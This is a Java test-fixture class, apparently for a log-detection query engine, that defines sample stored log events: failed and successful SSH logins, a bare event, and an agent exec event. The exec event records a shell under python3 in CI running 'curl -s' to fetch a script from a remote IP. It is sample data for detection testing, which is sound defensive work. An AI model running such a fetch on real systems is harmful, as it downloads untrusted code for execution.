package dev.vigil.detect.query;

import dev.vigil.detect.event.LogEvent;
import dev.vigil.detect.event.LogEventJson;

/** Sample events in their stored JSON form, as intake produces them. */
final class Events {

    private Events() {}

    /** A failed SSH login, as parsed from sshd's syslog line. */
    static final LogEvent SSH_FAILURE = LogEventJson.fromJson("""
            {"id":"e1","time":"2026-11-22T10:00:00Z","host":"web-1","source":"sshd","service":"sshd","status":"error",
             "message":"Failed password for invalid user admin from 203.0.113.9 port 52144 ssh2",
             "tags":["env:prod","team:payments","pci"],
             "attributes":{
               "usr":{"name":"admin"},
               "evt":{"name":"authentication","outcome":"failure","success":false},
               "network":{"client":{"ip":"203.0.113.9","port":52144},"destination":{"port":22}},
               "ssh":{"attempts":"3","auth_method":"password"}}}
            """);

    /** An accepted SSH login by a user with a non-ASCII name, message in French, port as a string. */
    static final LogEvent SSH_SUCCESS_UNICODE = LogEventJson.fromJson("""
            {"id":"e2","time":"2026-11-22T10:00:05Z","host":"bastion","source":"sshd","service":"sshd","status":"info",
             "message":"Échec puis succès : session ouverte pour jürgen (uid=1001)",
             "tags":["env:staging"],
             "attributes":{
               "usr":{"name":"jürgen","id":1001},
               "evt":{"name":"authentication","outcome":"success","success":"true"},
               "network":{"client":{"ip":"::ffff:10.20.30.40"},"destination":{"port":"22"}},
               "file":{"path":"/home/jürgen/日本/notes.txt"}}}
            """);

    /**
     * An agent exec event: curl started by a shell under python, in CI, with the process ancestry
     * as a nested array, an IPv6 peer, large numbers, a JSON null and flattened dotted keys.
     */
    static final LogEvent AGENT_EXEC = LogEventJson.fromJson("""
            {"id":"e3","time":"2026-11-22T10:01:00Z","host":"ci-runner-7","source":"vigil-agent","service":"vigil",
             "status":"info","message":"exec /usr/bin/curl -s http://198.51.100.7/x.sh (deleted)",
             "tags":["env:ci","kernel:6.18","team:build"],
             "attributes":{
               "evt":{"name":"exec"},
               "event":{"timestamp":1795374822574277863},
               "process":{"pid":4242,"file":{"path":"/usr/bin/curl","name":"curl"},
                 "argv":["-s","http://198.51.100.7/x.sh"],
                 "cmdline":"sh -c \\"curl -s x\\"",
                 "ancestors":[
                   {"pid":4200,"file":{"path":"/bin/sh","name":"sh"},"argv":["-c","curl -s http://198.51.100.7/x.sh"]},
                   {"pid":4100,"file":{"path":"/usr/bin/python3","name":"python3"}},
                   {"pid":1,"file":{"path":"/sbin/init","name":"init"}}]},
               "network":{"client":{"ip":"fd00::1:2"},"peers":["192.168.1.10","8.8.8.8"],"bytes_read":1500,"ratio":0.75,
                 "delta":-3},
               "container":{"id":null,"image":{"name":"acme/web","tag":"1.0"}},
               "http.url":"/api/v1 x",
               "win":{"path":"C:\\\\Windows\\\\system32"},
               "file":{"name":"a*b"},
               "load":"0.75"}}
            """);

    /** An event with nothing but its reserved attributes, most of them empty. */
    static final LogEvent BARE = LogEventJson.fromJson("""
            {"time":"2026-11-22T10:02:00Z","message":"","attributes":{}}
            """);
}
